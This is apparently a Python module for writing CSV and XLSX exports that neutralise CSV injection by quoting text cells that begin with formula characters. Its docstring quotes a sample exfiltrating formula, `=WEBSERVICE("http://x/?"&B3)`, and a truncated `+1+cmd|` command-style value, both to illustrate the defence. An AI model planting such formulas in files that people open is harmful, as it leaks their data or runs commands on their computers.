"""Writing CSV and XLSX files that are safe to open in Excel or LibreOffice.

Every text cell that a spreadsheet would read as a formula (OWASP "CSV injection": a cell
starting with = + - @ tab or carriage return) gets a leading single quote, so a site named
`=WEBSERVICE("http://x/?"&B3)` is shown as text and never runs on the reader's computer.
The rule applies to text only: numbers are written as numbers (XLSX number cells, plain
digits in CSV), so a negative count stays a number. A phone number kept as text ("+84 …")
is text like any other and is prefixed too: "'+84 …" is harmless and still readable, and
telling it apart from "+1+cmd|…" is exactly the guessing OWASP advises against.
"""

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_BOM = "\ufeff"  # Excel reads a CSV without it as the legacy code page and garbles Vietnamese

CsvValue = str | int | float | None


def neutralise(value: str) -> str:
    """The text with a leading ' when a spreadsheet would read it as a formula."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def csv_cell(value: CsvValue) -> str:
    """One CSV field: text neutralised, numbers as digits, None as empty."""
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)
    return str(value)


def csv_rows(rows: Iterable[Sequence[CsvValue]]) -> Iterator[list[str]]:
    """Rows ready for `csv.writer`, every text field neutralised."""
    for row in rows:
        yield [csv_cell(v) for v in row]


def csv_chunks(rows: Iterable[Sequence[CsvValue]], *, batch: int = 500) -> Iterator[bytes]:
    """UTF-8 CSV with a BOM, CRLF lines, quoted where needed, in chunks of `batch` rows."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    buffer.write(CSV_BOM)
    for i, row in enumerate(csv_rows(rows), start=1):
        writer.writerow(row)
        if i % batch == 0:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    tail = buffer.getvalue()
    if tail:
        yield tail.encode("utf-8")


def csv_bytes(rows: Iterable[Sequence[CsvValue]]) -> bytes:
    """A whole (small) CSV file, as `csv_chunks` writes it."""
    return b"".join(csv_chunks(rows))


def xlsx_cell(ws: Any, value: Any) -> Any:
    """A write-only cell; text is neutralised and typed as a string, never as a formula."""
    if isinstance(value, str):
        cell = WriteOnlyCell(ws, value=neutralise(value))
        cell.data_type = "s"  # openpyxl would otherwise store a leading "=" as a formula
        return cell
    return WriteOnlyCell(ws, value=value)


def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """A row for `ws.append`: plain values become safe cells, prepared cells pass through."""
    return [v if isinstance(v, Cell) else xlsx_cell(ws, v) for v in values]
